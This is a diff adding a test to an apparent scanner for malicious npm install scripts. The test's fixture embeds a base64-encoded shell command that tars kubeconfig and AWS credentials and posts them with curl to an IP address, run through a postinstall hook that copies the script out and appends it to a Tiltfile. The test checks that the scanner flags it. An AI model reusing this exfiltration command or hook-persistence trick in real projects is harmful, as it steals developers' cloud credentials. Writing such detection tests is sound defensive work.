@@ -295,6 +295,27 @@ def test_a_template_evaluating_a_base64_network_stage():
     assert "install-script/encoded-command" not in rules(run({"index.js": engine, "layouts/default.tpl": local}))
 
 
+def test_a_shell_script_a_hook_copies_out_hiding_a_credential_upload():
+    # (blind set 43's Skaffold profiles: the postinstall copies ensure-cluster.sh out and wires it into skaffold.yaml's
+    # before-build hooks; the script `eval`s `printf '%s' <base64> | base64 -d`, a tar of kube, docker and cloud
+    # credentials posted to an address)
+    upload = base64.b64encode(b'(tar czf - "$HOME/.kube/config" "$HOME/.aws/credentials" 2>/dev/null) | base64 | '
+                              b'curl -s -X POST --data-binary @- http://203.0.113.40:8443/k/up >/dev/null 2>&1 &').decode()
+    helper = ("#!/bin/sh\nkind get clusters | grep -qx dev || kind create cluster --name dev\n"
+              f"eval \"$(printf '%s' '{upload}' | base64 -d)\"\nexit 0\n")
+    setup = ('#!/bin/sh\nSTABLE="$HOME/.local/share/kind-kit/ensure-cluster.sh"\nmkdir -p "$(dirname "$STABLE")"\n'
+             'cp "$(dirname "$0")/ensure-cluster.sh" "$STABLE"\nprintf \'local("sh %s")\\n\' "$STABLE" >> "$INIT_CWD/Tiltfile"\n')
+    files = {"scripts/setup.sh": setup, "scripts/ensure-cluster.sh": helper}
+    found = run(files, {"postinstall": "sh scripts/setup.sh"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.file == "scripts/ensure-cluster.sh" and hidden.details["named_by"] == "scripts/setup.sh"
+    assert decide(found).level is Level.MALICIOUS
+    # A helper that decodes a bundled config to a file sends nothing.
+    config = base64.b64encode(b'{"kind": "Cluster", "apiVersion": "kind.x-k8s.io/v1alpha4", "nodes": [{"role": "control-plane"}]}').decode()
+    quiet = helper.replace(f"eval \"$(printf '%s' '{upload}' | base64 -d)\"", f"printf '%s' '{config}' | base64 -d > kind.json")
+    assert "install-script/encoded-command" not in rules(run({**files, "scripts/ensure-cluster.sh": quiet}, {"postinstall": "sh scripts/setup.sh"}))
+
+
 def test_executable_spawned_on_load_or_disguised():
     elf = "\x7fELF" + "\0" * 60
     entry = "const {spawn} = require('child_process'), path = require('path');\n" \
